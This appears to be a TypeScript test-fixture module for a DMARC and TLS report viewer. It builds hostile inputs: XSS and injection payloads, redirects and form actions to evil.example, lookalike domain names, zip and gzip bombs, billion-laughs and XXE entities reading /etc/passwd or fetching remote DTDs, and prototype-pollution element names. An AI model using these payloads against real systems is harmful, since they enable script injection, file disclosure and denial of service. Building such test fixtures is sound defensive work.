// Reports of somebody who wants the page to do what it must not.
import { crc32, gzipSync } from 'node:zlib';
import { metadata, policy, record, report } from '../../unit/report/support';

/** What each payload does where it is run: it leaves its name behind. */
const own = (name: string): string => `globalThis.owned.push('${name}')`;

/** Texts that become active where they are taken for anything but text. */
export const payloads: readonly string[] = [
  `<script>${own('script')}</script>`,
  `"><script>${own('quoted')}</script>`,
  `</title></style></textarea><script>${own('closed')}</script>`,
  `<img src=x onerror="${own('img')}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<svg onload="${own('svg')}"><a xlink:href="javascript:${own('xlink')}"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.owned.push('iframe')</script>"></iframe>`,
  `<object data="javascript:${own('object')}"></object><embed src="javascript:${own('embed')}">`,
  `<a href="javascript:${own('href')}">a</a>`,
  `javascript:${own('url')}`,
  `data:text/html,<script>${own('data')}</script>`,
  `" onmouseover="${own('mouse')}" onfocus="${own('focus')}" autofocus tabindex="1" x="`,
  `' onclick='${own('click')}' style='position:fixed;inset:0' x='`,
  `<style>body { display: none !important; background: url(https://evil.example/s.png) }</style>`,
  `red; } body { display: none !important; background: url(https://evil.example/t.png)`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><form action="https://evil.example/"><input>`,
  `<template><slot></slot></template><math><mtext><table><mglyph><style><img src onerror="${own('m')}">`,
  `{{constructor.constructor("${own('template')}")()}}\${${own('literal')}}`,
  `command:workbench.action.terminal.new`,
  `[x](command:mailAuth.openReport) ![y](https://evil.example/y.png)`,
];

/** Names that are not what they look like. */
export const sham: readonly string[] = [
  'exam\u200bple.com',
  'example.com\u202emoc.live',
  '\u2066example\u2069.com',
  'ex\u0430mple.com', // a Cyrillic letter
  'exam\u00adple.com',
  '\ufeffexample.com',
  'example.com\u2028next',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301xample.com',
  'example\u3164.com',
];

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/** A report with this text in every place for a text, in two records: one as a report has it, one as CDATA. */
export function filledWith(text: string): string {
  const fill = (x: string): string =>
    record({
      ip: x,
      evaluated:
        `<disposition>${x}</disposition><dkim>${x}</dkim><spf>${x}</spf>` +
        `<reason><type>${x}</type><comment>${x}</comment></reason>`,
      identifiers:
        `<header_from>${x}</header_from><envelope_from>${x}</envelope_from>` +
        `<envelope_to>${x}</envelope_to>`,
      results:
        `<dkim><domain>${x}</domain><selector>${x}</selector><result>${x}</result>` +
        `<human_result>${x}</human_result></dkim>` +
        `<spf><domain>${x}</domain><scope>${x}</scope><result>${x}</result><human_result>${x}</human_result></spf>`,
    });
  const x = escaped(text);
  const head =
    `<report_metadata><org_name>${x}</org_name><email>${x}</email>` +
    `<extra_contact_info>${x}</extra_contact_info><report_id>${x}</report_id>` +
    `<date_range><begin>1794787200</begin><end>1794873599</end></date_range><error>${x}</error></report_metadata>`;
  const published =
    `<policy_published><domain>${x}</domain>` +
    ['adkim', 'aspf', 'p', 'sp', 'np', 'pct', 'fo', 'testing', 'discovery_method']
      .map((name) => `<${name}>${x}</${name}>`)
      .join('') +
    '</policy_published>';
  return report(fill(x), fill(`<![CDATA[${text}]]>`), record())
    .replace(metadata, head)
    .replace(policy, published);
}

/** A failure report with this text in every header, and a TLS report and a history file with it in every field. */
export function otherKindsWith(text: string): readonly { readonly name: string; readonly bytes: string }[] {
  const line = text.replaceAll(/[\r\n]/g, ' ');
  const fields = [
    'Feedback-Type: auth-failure',
    ...[
      'User-Agent',
      'Original-Mail-From',
      'Original-Rcpt-To',
      'Source-IP',
      'Reported-Domain',
      'DKIM-Domain',
    ],
    ...['DKIM-Selector', 'DKIM-Identity', 'SPF-DNS', 'Delivery-Result', 'Identity-Alignment', 'Incidents'],
    ...['Auth-Failure', 'Authentication-Results', 'Arrival-Date', 'Reported-URI', 'Reporting-MTA'],
  ].map((field) => (field.includes(':') ? field : `${field}: ${line}`));
  const arf = [
    'From: reporter@receiver.example',
    'To: dmarc@example.com',
    `Subject: ${line}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=feedback-report; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain',
    '',
    line,
    '--b',
    'Content-Type: message/feedback-report',
    '',
    ...fields,
    '--b',
    'Content-Type: message/rfc822',
    '',
    `From: ${line}`,
    `Subject: ${line}`,
    '',
    line,
    '--b--',
    '',
  ].join('\r\n');
  const tls = JSON.stringify({
    'organization-name': text,
    'contact-info': text,
    'report-id': text,
    'date-range': { 'start-datetime': '2026-11-16T00:00:00Z', 'end-datetime': '2026-11-16T23:59:59Z' },
    policies: [
      {
        policy: {
          'policy-type': text,
          'policy-string': [text],
          'policy-domain': text,
          'mx-host': [text],
        },
        summary: { 'total-successful-session-count': 1, 'total-failure-session-count': 2 },
        'failure-details': [
          {
            'result-type': text,
            'sending-mta-ip': text,
            'receiving-ip': text,
            'receiving-mx-hostname': text,
            'receiving-mx-helo': text,
            'failed-session-count': 2,
            'additional-information': text,
            'failure-reason-code': text,
          },
        ],
      },
    ],
  });
  // Its fields hold no blanks; to a browser a slash parts attributes as well.
  const word = line.replaceAll(/\s/g, '/');
  const history = [
    `job ${word}`,
    `reporter ${word}`,
    'received 1794787200',
    `ipaddr ${word}`,
    `from ${word}`,
    `mfrom ${word}`,
    'spf 0',
    `pdomain ${word}`,
    'policy 15',
    `rua mailto:${word}`,
    'pct 100',
    'adkim 114',
    'aspf 114',
    'p 110',
    'sp 110',
    `dkim ${word} ${word} 0`,
    'align_dkim 4',
    'align_spf 4',
    'action 2',
    '',
  ].join('\n');
  return [
    { name: 'failure.eml', bytes: arf },
    { name: 'tls.json', bytes: tls },
    { name: 'opendmarc.dat', bytes: history },
  ];
}

/** A zip file whose directory lists so many entries, all of which are the same few bytes: small for what it says. */
export function crowdedZip(entries: number): Uint8Array {
  const content = Buffer.from(report(record()));
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt32LE(crc32(content), 10);
  common.writeUInt32LE(content.length, 14);
  common.writeUInt32LE(content.length, 18);
  common.writeUInt16LE(1, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, Buffer.from('a'), content]);
  const head = Buffer.concat([Buffer.from('PK\x01\x02\x14\x00'), common, Buffer.alloc(14), Buffer.from('a')]);
  const directory = Buffer.alloc(entries * head.length);
  directory.fill(head);
  // Zip64: the older end of a directory counts to 65,535 only.
  const end64 = Buffer.alloc(56);
  end64.write('PK\x06\x06', 0, 'latin1');
  end64.writeBigUInt64LE(44n, 4);
  end64.writeUInt16LE(45, 12);
  end64.writeUInt16LE(45, 14);
  end64.writeBigUInt64LE(BigInt(entries), 24);
  end64.writeBigUInt64LE(BigInt(entries), 32);
  end64.writeBigUInt64LE(BigInt(directory.length), 40);
  end64.writeBigUInt64LE(BigInt(local.length), 48);
  const locator = Buffer.alloc(20);
  locator.write('PK\x06\x07', 0, 'latin1');
  locator.writeBigUInt64LE(BigInt(local.length + directory.length), 8);
  locator.writeUInt32LE(1, 16);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(Math.min(entries, 0xffff), 8);
  end.writeUInt16LE(Math.min(entries, 0xffff), 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(entries > 0xffff ? 0xffffffff : local.length, 16);
  return Buffer.concat([local, directory, ...(entries > 0xffff ? [end64, locator] : []), end]);
}

/** Gzip members of 16 MiB of blanks, one behind the other, behind the beginning of a report. */
export function gzipBomb(length: number): Uint8Array {
  const member = gzipSync(Buffer.alloc(2 ** 24, ' '));
  const begin = gzipSync(`<feedback>${metadata}${policy}${record()}`);
  return Buffer.concat([begin, ...Array.from({ length: Math.ceil(length / 2 ** 24) }, () => member)]);
}

/** Documents that grow, reach out, or go down without an end: by what they are called. */
export const bombs: Readonly<Record<string, string>> = {
  'a billion laughs': withDoctype(
    [
      '<!ENTITY l0 "lol">',
      ...Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`),
    ].join(''),
    '&l9;',
  ),
  'a quadratic blow-up': withDoctype(`<!ENTITY a "${'x'.repeat(50_000)}">`, '&a;'.repeat(50_000)),
  'an external entity': withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
  'an entity from afar': withDoctype('<!ENTITY x SYSTEM "https://evil.example/x">', '&x;'),
  'a document type from afar': report(record()).replace(
    '<?xml version="1.0"?>',
    '<?xml version="1.0"?><!DOCTYPE feedback SYSTEM "https://evil.example/evil.dtd">',
  ),
  'a stylesheet from afar': report(record()).replace(
    '<?xml version="1.0"?>',
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/evil.xsl"?>',
  ),
  'nesting to the 100,000th level': report(
    record(),
    record({ results: '<a>'.repeat(100_000) + '</a>'.repeat(100_000) }),
  ),
  'start tags without an end': `<feedback>${'<record>'.repeat(100_000)}`,
};

function withDoctype(declarations: string, text: string): string {
  return report(record({ ip: text })).replace(
    '<?xml version="1.0"?>',
    `<?xml version="1.0"?><!DOCTYPE feedback [${declarations}]>`,
  );
}

/** Elements named like what objects have anyway. */
export const internals = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'];

export function withInternals(name: string): string {
  const evil = `<${name}><polluted>yes</polluted><source_ip>evil</source_ip></${name}>`;
  return report(
    record({ identifiers: `<header_from>${name}</header_from>${evil}` }).replace('<row>', `<row>${evil}`),
    record({
      ip: name,
      identifiers: evil,
      results: `<dkim><domain>${name}</domain><result>${name}</result></dkim>`,
    }),
  ).replace('<org_name>Receiver', `${evil}<org_name>${name}`);
}
